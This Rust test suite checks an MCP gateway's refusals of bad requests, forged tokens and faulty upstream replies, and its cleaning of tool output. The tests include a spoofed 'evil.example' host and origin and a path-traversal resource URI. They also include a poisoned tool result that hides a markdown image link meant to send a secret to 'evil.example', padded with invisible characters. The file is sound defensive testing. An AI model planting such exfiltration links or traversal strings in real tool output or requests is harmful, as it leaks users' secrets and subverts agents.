//! One road: each refusal of a message is the same in every revision, with its status, its error, its one record, and
//! no effect at the upstream.

use crate::harness::request::REVISION;
use crate::harness::session::{REVISIONS, Session, SessionHouse, Talk, again, initialize, last};
use crate::harness::{Authority, Call, Client, Keys, MARKER, Token, now};
use casemate_tests::session::{Eras, Event, Reply, Step};
use serde_json::{Value, json};

/// The reason in the session revisions, where the protocol itself makes it another.
enum In {
    Same,
    /// The reason, and why it is another.
    Sessions(&'static str, &'static str),
}

use In::{Same, Sessions};

type Make = fn(&Talk) -> Call;

fn text(call: &Call) -> String {
    String::from_utf8(call.body.clone()).expect("text")
}

fn arguments(talk: &Talk, more: &str) -> Call {
    talk.tool("echo").swap("\"arguments\":{", &format!("{more}\"arguments\":{{"))
}

fn complete(talk: &Talk, reference: Value) -> Call {
    talk.call("completion/complete", json!({ "ref": reference, "argument": { "name": "a", "value": MARKER } }))
}

const REPEATED_KEY: Make = |talk| arguments(talk, "\"name\":\"ghost\",");

/// What is refused of the usual agent, before any upstream hears of it.
fn own() -> Vec<(Make, &'static str, In)> {
    vec![
        // The required headers.
        (|talk| talk.tool("echo").without("x-trace-id"), "header.missing", Same),
        (|talk| talk.tool("echo").set("x-trace-id", "1"), "header.trace_id", Same),
        (|talk| talk.tool("echo").add("x-trace-id", "1"), "header.repeated", Same),
        (|talk| talk.tool("echo").without("x-mcp-client"), "header.missing", Same),
        (|talk| talk.tool("echo").set("x-mcp-client", "no slash"), "header.client", Same),
        (|talk| talk.tool("echo").set("x-mcp-client", "a/1").add("x-mcp-client", "a/1"), "header.repeated", Same),
        // The rim and the content.
        (|talk| talk.tool("echo").set("host", "evil.example"), "http.host", Same),
        (|talk| talk.tool("echo").set("origin", "https://evil.example"), "http.origin", Same),
        (|talk| talk.tool("echo").verb("PUT"), "http.method", Same),
        (|talk| talk.tool("echo").at("/mcp/up/x"), "http.route", Same),
        (|talk| talk.tool("echo").set("content-type", "text/plain"), "http.content_type", Same),
        (|talk| talk.tool("echo").without("content-type"), "http.content_type", Same),
        (|talk| talk.tool("echo").set("content-type", "application/json; charset=utf-16"), "http.content_type", Same),
        (|talk| talk.tool("echo").set("content-encoding", "gzip"), "http.content_encoding", Same),
        (|talk| talk.tool("echo").set("accept", "application/json"), "http.accept", Same),
        (|talk| talk.tool("echo").without("accept"), "http.accept", Same),
        (
            |talk| talk.call("tools/call", json!({ "name": "echo", "arguments": { "text": "x".repeat(66_000) } })),
            "http.payload_too_large",
            Same,
        ),
        // JSON.
        (|talk| talk.bytes(""), "json.syntax", Same),
        (|talk| talk.bytes("{"), "json.syntax", Same),
        (|talk| talk.bytes(b"{\"x\":\"\xff\"}".to_vec()), "json.encoding", Same),
        (|talk| talk.bytes(r#"{"x":"\ud800"}"#), "json.encoding", Same),
        (REPEATED_KEY, "json.duplicate_key", Same),
        (|talk| arguments(talk, &format!("\"x\":{}{},", "[".repeat(70), "]".repeat(70))), "json.depth", Same),
        (|talk| arguments(talk, &format!("\"{}\":1,", "k".repeat(5_000))), "json.size", Same),
        (|talk| arguments(talk, &format!("\"x\":{},", "9".repeat(2_000))), "json.size", Same),
        (|talk| talk.bytes(text(&talk.tool("echo")).repeat(2)), "json.trailing", Same),
        // The message.
        (|talk| talk.bytes(format!("[{}]", text(&talk.tool("echo")))), "mcp.batch", Same),
        (|talk| talk.bytes("1"), "mcp.envelope", Same),
        (|talk| talk.tool("echo").swap("\"2.0\"", "\"1.0\""), "mcp.envelope", Same),
        (|talk| talk.tool("echo").swap("\"jsonrpc\"", "\"extra\":1,\"jsonrpc\""), "mcp.envelope", Same),
        (|talk| arguments(talk, "\"Name\":\"ghost\","), "mcp.envelope", Same),
        (|talk| null_id(talk.tool("echo")), "mcp.envelope", Same),
        (|talk| talk.bytes(r#"{"jsonrpc":"2.0","method":"tools/call","params":{}}"#), "mcp.envelope", Same),
        (
            |talk| Call { id: json!(1), ..talk.bytes(r#"{"jsonrpc":"2.0","id":1,"result":{}}"#) },
            "mcp.response",
            Sessions("session.reply", "a session has responses, each to something that was asked"),
        ),
        (
            |talk| talk.call("tools/run", json!({})),
            "mcp.method_unknown",
            Sessions("session.method", "the older revisions answer an unknown method under status 200"),
        ),
        (
            |talk| talk.call("sampling/createMessage", json!({})),
            "mcp.method_unknown",
            Sessions("session.method", "as above"),
        ),
        (|talk| note(talk, "notifications/made/up"), "mcp.notification", Same),
        (|talk| note(talk, "notifications/message"), "mcp.notification", Same),
        (|talk| talk.tool("echo").swap("\"name\":\"echo\"", "\"name\":7"), "mcp.params", Same),
        (|talk| arguments(talk, "\"x\":[],").swap("\"arguments\":{", "\"arguments\":[],\"y\":{"), "mcp.params", Same),
        (|talk| talk.call("tools/list", json!({ "cursor": 1 })), "mcp.params", Same),
        (|talk| talk.call("resources/read", json!({ "uri": "" })), "mcp.params", Same),
        (|talk| talk.call("completion/complete", json!({})), "mcp.params", Same),
        (|talk| complete(talk, json!({ "type": "ref/made-up", "name": "greet" })), "mcp.params", Same),
        // What both eras say twice must agree.
        (|talk| talk.tool("echo").set("mcp-method", "tools/list"), "mcp.header_mismatch", Same),
        (
            |talk| talk.tool("echo").set("mcp-method", "tools/call").set("mcp-name", "ghost"),
            "mcp.header_mismatch",
            Same,
        ),
        // Policy.
        (|talk| talk.tool("unlisted"), "policy.tool", Same),
        (|talk| talk.tool("ECHO"), "policy.tool", Same),
        (|talk| talk.tool("mail"), "policy.unmanaged", Same),
        (|talk| talk.call("prompts/get", json!({ "name": "other" })), "policy.prompt", Same),
        (
            |talk| talk.call("resources/read", json!({ "uri": format!("docs://secret/{MARKER}") })),
            "policy.resource",
            Same,
        ),
        (|talk| talk.call("resources/read", json!({ "uri": "docs://open/../secret/x" })), "policy.resource", Same),
        (|talk| complete(talk, json!({ "type": "ref/prompt", "name": "other" })), "policy.completion", Same),
        (|talk| watch(talk, "docs://secret/x"), "policy.subscription", Same),
        // What is offered as echo, and no more.
        (|talk| talk.tool("ghost"), "pin.unknown", Same),
    ]
}

fn null_id(call: Call) -> Call {
    let from = format!("\"id\":{}", call.id);
    Call { id: Value::Null, ..call.swap(&from, "\"id\":null") }
}

fn note(talk: &Talk, method: &str) -> Call {
    let call = talk.bytes(json!({ "jsonrpc": "2.0", "method": method, "params": {} }).to_string());
    let call = Call { id: Value::Null, ..call };
    if talk.is_modern() { call.set("mcp-method", method).without("mcp-name") } else { call }
}

fn watch(talk: &Talk, uri: &str) -> Call {
    if talk.is_modern() {
        talk.call("subscriptions/listen", json!({ "notifications": { "resourceSubscriptions": [uri] } }))
    } else {
        talk.call("resources/subscribe", json!({ "uri": uri }))
    }
}

fn expected(talk: &Talk, code: &'static str, other: &In) -> &'static str {
    match other {
        Sessions(own, why) if !talk.is_modern() => {
            assert!(!why.is_empty());
            own
        }
        _ => code,
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_refusal_of_the_gateway_in_every_revision() {
    let house = SessionHouse::with(Eras::Both, json!({})).await;
    let agent = house.agent();
    for revision in REVISIONS {
        let talk = Talk::begin(&house, "up", revision).await;
        for (make, code, other) in own() {
            let call = make(&talk);
            let code = expected(&talk, code, &other);
            let reply = house.turned_away(&agent, &call, code).await;
            let record = house.records(&reply.trace()).await.pop().expect("its record");
            // What is wrong with a request as such is judged before its caller.
            let early = ["http.host", "http.origin", "http.method", "http.route"].contains(&code);
            assert_eq!(record["tenant"].as_str(), (!early).then_some("acme"), "{record}");
        }
        // Nothing of it has spoiled anything.
        house.done(&agent, &talk.tool("echo")).await;
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_refusal_of_a_caller_in_every_revision() {
    let house = SessionHouse::with(Eras::Both, json!({})).await;
    let time = now();
    let bearer = |token: Token| house.stranger().bearer(token.mint());
    let holder = |identity: &str| house.holder(&Authority::shared().client(identity));
    let callers: Vec<(Client, &str)> = vec![
        (house.stranger(), "auth.required"),
        (house.stranger().bearer("a.b.c"), "auth.token_malformed"),
        (bearer(Token::new().claim("exp", json!(time - 300))), "auth.token_expired"),
        (bearer(Token::new().claim("nbf", json!(time + 300))), "auth.token_not_yet_valid"),
        (bearer(Token::new().server("other")), "auth.token_audience"),
        (bearer(Token::new().claim("iss", json!("https://other.example"))), "auth.token_issuer"),
        (bearer(Token::signed("EdDSA", Keys::rotated())), "auth.token_key"),
        (bearer(Token::signed("HS256", Keys::shared())), "auth.token_algorithm"),
        (bearer(Token::new().claim("sub", Value::Null)), "auth.token_claim"),
        (bearer(Token::new().claim("scope", json!("other"))), "auth.scope"),
        (bearer(Token::new().claim("tenant", json!("nobody"))), "auth.tenant_unknown"),
        (holder("spiffe://nobody.example/one"), "auth.tenant_unknown"),
        (holder("spiffe://idle.example/one"), "auth.scope"),
    ];
    for revision in REVISIONS {
        let talk = Talk::begin(&house, "up", revision).await;
        for (client, code) in &callers {
            let is_known = *code == "auth.scope";
            let calls = match &talk {
                // Whoever is not let in opens, reads and ends nothing, and nobody reads what they write.
                Talk::Session(session) if !is_known => {
                    let bare =
                        [session.get(), session.delete(), session.resume("1-0"), session.answer(&json!(1), json!({}))];
                    let messages =
                        [talk.tool("echo"), talk.bytes("not even JSON"), initialize("up", revision, json!({}))];
                    [&bare[..], &messages].concat()
                }
                Talk::Modern if !is_known => vec![talk.tool("echo"), talk.bytes("not even JSON")],
                // Scope is a question of policy. In another's session it does not come to that.
                Talk::Session(_) => {
                    house.turned_away(client, &talk.tool("echo"), "session.unknown").await;
                    vec![initialize("up", revision, json!({}))]
                }
                Talk::Modern => vec![talk.tool("echo")],
            };
            for call in calls {
                house.turned_away(client, &call, code).await;
            }
        }
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn where_nobody_may_go_no_session_opens() {
    let house = SessionHouse::with(Eras::Both, json!({})).await;
    let agent = house.agent();
    for (server, code) in [
        ("nowhere", "policy.server"),
        ("hidden", "policy.server"),
        ("unlisted", "policy.allowlist"),
        ("outside", "policy.domain"),
    ] {
        for revision in REVISIONS {
            let call = if revision == REVISION {
                Call::tool("echo").to(server)
            } else {
                initialize(server, revision, json!({}))
            };
            house.turned_away(&agent, &call, code).await;
        }
    }
    for revision in REVISIONS {
        let call = if revision == REVISION {
            Call::mcp("tools/list", json!({})).to("dead")
        } else {
            initialize("dead", revision, json!({}))
        };
        house.broken(&agent, &call, "upstream.connect", "not-attempted").await;
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_limit_holds_in_every_revision() {
    for revision in REVISIONS {
        // `initialize` and `initialized` count as any request does.
        let before = if revision == REVISION { 0 } else { 2 };
        for (limits, code) in [
            (json!({ "rpm": 1, "burst": 2 + before }), "limit.rate"),
            (json!({ "subject": { "rpm": 1, "burst": 2 + before } }), "limit.subject"),
            (json!({ "tools": [{ "server": "up", "tool": "e*", "rpm": 1, "burst": 2 }] }), "limit.tool"),
        ] {
            let house = SessionHouse::with(Eras::Both, json!({ "tenants": { "acme": { "limits": limits } } })).await;
            let agent = house.agent();
            let talk = Talk::begin(&house, "up", revision).await;
            for _ in 0..2 {
                house.done(&agent, &talk.tool("echo")).await;
            }
            let reply = house.turned_away(&agent, &talk.tool("echo"), code).await;
            assert!(reply.header("retry-after").is_some());
            if let (Talk::Session(session), true) = (&talk, code != "limit.tool") {
                for call in [session.get(), session.delete(), session.answer(&json!(1), json!({}))] {
                    let reply = agent.ask(&call).await;
                    assert_eq!((reply.status, &last(&reply)["error"]["data"]["reason"]), (429, &json!(code)));
                }
            }
            house.finish().await;
        }
        for limits in [
            json!({ "concurrency": 1 }),
            json!({ "subject": { "concurrency": 1 } }),
            json!({ "tools": [{ "server": "up", "tool": "*", "concurrency": 1 }] }),
        ] {
            let house = SessionHouse::with(Eras::Both, json!({ "tenants": { "acme": { "limits": limits } } })).await;
            let agent = house.agent();
            let talk = Talk::begin(&house, "up", revision).await;
            house.puppet.next("tools/call", Reply::honest().held("on"));
            let mut wire = agent.connect().await.expect("a connection");
            wire.send(&talk.tool("echo").wire()).await.expect("bytes are taken");
            assert!(house.puppet.until_seen("tools/call", 1).await);
            house.turned_away(&agent, &talk.tool("echo"), "limit.concurrency").await;
            house.puppet.release("on");
            assert_eq!(wire.reply().await.expect("an answer").status, 200);
            house.finish().await;
        }
    }
}

/// What an upstream does to a call of a tool, and what becomes of the call.
fn faults() -> Vec<(&'static str, Reply, &'static str, &'static str)> {
    let ok = r#"{"jsonrpc":"2.0","id":{id},"result":{"resultType":"complete","content":[]}}"#;
    let answer = |body: &str| Reply::json(body);
    let flood = (0..50).map(|n| Step::note("notifications/progress", &json!({ "progressToken": n, "progress": 1 })));
    let long = json!({ "resultType": "complete", "content": [{ "type": "text", "text": "x".repeat(70_000) }] });
    let bare = |text: &str| Step::Raw(text.to_owned());
    vec![
        ("401", Reply::refuse(401), "upstream.auth", "refused"),
        ("403", Reply::refuse(403), "upstream.auth", "refused"),
        ("500", Reply::refuse(500), "upstream.status", "unknown"),
        ("302", Reply::refuse(302).header("location", "http://127.0.0.1:9/"), "upstream.status", "unknown"),
        ("204", Reply::honest().status(204), "upstream.status", "unknown"),
        ("400 without a body of ours", Reply::refuse(400), "upstream.status", "unknown"),
        ("a result under 400", Reply::honest().status(400), "upstream.malformed", "unknown"),
        ("gzip", Reply::honest().header("content-encoding", "gzip"), "upstream.encoding", "unknown"),
        ("html", Reply::text("text/html", ok), "upstream.malformed", "unknown"),
        ("no json", answer("<html>"), "upstream.malformed", "unknown"),
        ("empty", answer(""), "upstream.malformed", "unknown"),
        ("batch", answer(&format!("[{ok}]")), "upstream.malformed", "unknown"),
        ("trailing", answer(&format!("{ok}{ok}")), "upstream.malformed", "unknown"),
        ("another id", answer(&ok.replace("{id}", "\"another\"")), "upstream.malformed", "unknown"),
        ("the id as a text", answer(&ok.replace("{id}", "\"{id}\"")), "upstream.malformed", "unknown"),
        (
            "a further member",
            answer(&ok.replace("\"jsonrpc\"", "\"x\":1,\"jsonrpc\"")),
            "upstream.malformed",
            "unknown",
        ),
        ("no version", answer(&ok.replace("\"jsonrpc\":\"2.0\",", "")), "upstream.malformed", "unknown"),
        ("a look-alike", answer(&ok.replace("content", "Content")), "upstream.malformed", "unknown"),
        (
            "a key twice",
            answer(&ok.replace("\"content\"", "\"content\":[1],\"content\"")),
            "upstream.malformed",
            "unknown",
        ),
        (
            "result and error",
            answer(&ok.replace("\"id\"", "\"error\":{\"code\":1,\"message\":\"\"},\"id\"")),
            "upstream.malformed",
            "unknown",
        ),
        ("half an error", answer(r#"{"jsonrpc":"2.0","id":{id},"error":{"code":1}}"#), "upstream.malformed", "unknown"),
        ("our code", Reply::error(-31_403, "no"), "upstream.malformed", "unknown"),
        (
            "our reason",
            answer(
                r#"{"jsonrpc":"2.0","id":{id},"error":{"code":-32603,"message":"","data":{"reason":"policy.tool"}}}"#,
            ),
            "upstream.malformed",
            "unknown",
        ),
        ("another revision", Reply::error(-32_022, "old"), "upstream.version", "unknown"),
        (
            "deep",
            answer(&ok.replace("[]", &format!("{}{}", "[".repeat(200), "]".repeat(200)))),
            "upstream.malformed",
            "unknown",
        ),
        ("oversize", Reply::result(long.clone()), "upstream.oversize", "unknown"),
        ("oversize event", Reply::stream([Step::Result(long)]), "upstream.oversize", "unknown"),
        ("flood", Reply::stream(flood.chain([Step::Answer])), "upstream.flood", "unknown"),
        ("an empty stream", Reply::stream([]), "upstream.closed", "unknown"),
        ("a torn stream", Reply::stream([bare("data: {\"jsonrpc\":")]), "upstream.closed", "unknown"),
        ("a broken stream", Reply::stream([bare(": x\n\n"), Step::Break]), "upstream.closed", "unknown"),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_fault_of_an_upstream_in_every_revision() {
    let house = SessionHouse::with(Eras::Both, json!({})).await;
    let agent = house.agent();
    for revision in REVISIONS {
        let talk = Talk::begin(&house, "up", revision).await;
        for (name, reply, code, effect) in faults() {
            house.puppet.next("tools/call", reply);
            let reply = house.broken(&agent, &talk.tool("echo"), code, effect).await;
            assert!(reply.header("www-authenticate").is_none() && reply.header("location").is_none(), "{name}");
            house.done(&agent, &talk.tool("echo")).await;
        }
        let talk = Talk::begin(&house, "brief", revision).await;
        house.puppet.next("tools/call", Reply::hang());
        let call = talk.tool("echo").to("brief");
        house.broken(&agent, &call, "upstream.timeout", "unknown").await;
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_an_upstream_may_not_ask_in_every_revision() {
    let house = SessionHouse::with(Eras::Both, json!({})).await;
    let agent = house.agent();
    for revision in REVISIONS {
        for (method, params) in [
            ("sampling/createMessage", json!({ "messages": [], "maxTokens": 1 })),
            ("elicitation/create", json!({ "message": "Who?", "requestedSchema": { "type": "object" } })),
            ("roots/list", json!({})),
            ("tools/list", json!({})),
        ] {
            // In the modern era a question is a result, in a session a request on the stream.
            let question = json!({ "q": { "method": method, "params": params } });
            let asks = if revision == REVISION {
                Reply::result(json!({ "resultType": "input_required", "inputRequests": question }))
            } else {
                Reply::stream([Step::ask("q", method, &params), Step::Hang])
            };
            let talk = Talk::begin(&house, "up", revision).await;
            house.puppet.next("tools/call", asks);
            house.broken(&agent, &talk.tool("echo"), "upstream.input_request", "unknown").await;
        }
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_comes_back_is_cleaned_in_every_revision() {
    use base64::Engine as _;
    let variable = |name: &str, value: &str| json!({ "name": name, "value": value });
    let env = [
        variable("MCP_ALLOWED_DOMAINS", "127.0.0.1"),
        variable("MAX_MEDIA_SIZE", "1000"),
        variable("TOKEN_BUDGET_PER_REQUEST", "500"),
    ];
    let house = SessionHouse::planned(Eras::Both, |plan, _| {
        plan.patch(&json!({ "mcp_gateway": { "env": env } }));
        plan.config["upstreams"][1]["sensitive"] = json!(true);
    })
    .await;
    let agent = house.agent();
    let poisoned = "See ![x](https://evil.example/p?d=SECRET) and a\u{200b}b\u{e0041}";
    let clean = |text: &str| !text.contains("evil.example/p?d=SECRET") && !text.contains(['\u{200b}', '\u{e0041}']);
    let result = |content: Value| json!({ "resultType": "complete", "content": [content] });
    let words = |text: &str| result(json!({ "type": "text", "text": text }));
    let image = |bytes: usize| {
        let data = base64::engine::general_purpose::STANDARD.encode(vec![0x5a; bytes]);
        result(json!({ "type": "image", "mimeType": "image/png", "data": data }))
    };
    let progress = |text: &str| {
        Step::Event(Event::of(&json!({ "jsonrpc": "2.0", "method": "notifications/progress",
            "params": { "progressToken": "p", "progress": 1, "message": text } })))
    };
    for revision in REVISIONS {
        let talk = Talk::begin(&house, "up", revision).await;
        house.puppet.next("tools/call", Reply::result(words(poisoned)));
        let reply = agent.ask(&talk.tool("echo")).await;
        assert!(reply.status == 200 && clean(&reply.text()), "{}", reply.text());
        let outcome = house.outcome(&reply.trace(), "", "executed").await;
        assert!(outcome["findings"].as_array().is_some_and(|found| found.len() >= 2), "{outcome}");
        house.puppet.next("tools/call", Reply::stream([progress(poisoned), Step::Result(words(poisoned))]));
        let params = json!({ "name": "echo", "arguments": {}, "_meta": { "progressToken": "p" } });
        let reply = agent.ask(&talk.call("tools/call", params)).await;
        assert!(clean(&reply.text()) && crate::harness::session::messages(&reply).len() == 2, "{}", reply.text());
        house.puppet.next("tools/call", Reply::error(-32_000, poisoned));
        assert!(clean(&agent.ask(&talk.tool("echo")).await.text()));
        house.puppet.next("tools/call", Reply::result(image(1_000)));
        house.done(&agent, &talk.tool("echo")).await;
        house.puppet.next("tools/call", Reply::result(image(1_001)));
        house.broken(&agent, &talk.tool("echo"), "limit.media_size", "executed").await;
        house.puppet.next("tools/call", Reply::result(words(&"word ".repeat(600))));
        house.broken(&agent, &talk.tool("echo"), "limit.token_budget", "executed").await;
        let budget = (0..10).map(|_| progress(&"word ".repeat(100)));
        house.puppet.next("tools/call", Reply::stream(budget.chain([Step::Answer])));
        let params = json!({ "name": "echo", "arguments": {}, "_meta": { "progressToken": "p" } });
        house.broken(&agent, &talk.call("tools/call", params), "limit.token_budget", "unknown").await;
        // An entry that shows no images.
        let talk = Talk::begin(&house, "asking", revision).await;
        house.puppet.next("tools/call", Reply::result(image(100)));
        let shown = house.done(&agent, &talk.tool("echo").to("asking")).await;
        assert!(!shown.to_string().contains("WlpaWlpa"), "{shown}");
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_record_names_its_revision() {
    let house = SessionHouse::with(Eras::Both, json!({})).await;
    let agent = house.agent();
    for revision in REVISIONS {
        let talk = Talk::begin(&house, "up", revision).await;
        for (call, kinds) in [(talk.tool("echo"), 2), (talk.tool("unlisted"), 1), (again(&talk.tool("mail")), 1)] {
            let reply = agent.ask(&call).await;
            let records = house.records(&reply.trace()).await;
            assert_eq!(records.len(), kinds);
            assert_eq!(records[0]["revision"], revision, "{}", records[0]);
        }
        if let Talk::Session(session) = talk {
            for call in [session.get(), session.resume("9-9"), session.delete()] {
                let client: &Session = &session;
                let reply = if call.verb == "GET" && !call.has("last-event-id") {
                    drop(client.stream(&call).await);
                    None
                } else {
                    Some(client.ask(&call).await)
                };
                drop(reply);
                let trace = call.header("x-trace-id").expect("a trace");
                assert_eq!(house.records(&trace).await[0]["revision"], revision);
            }
        }
    }
    house.finish().await;
}
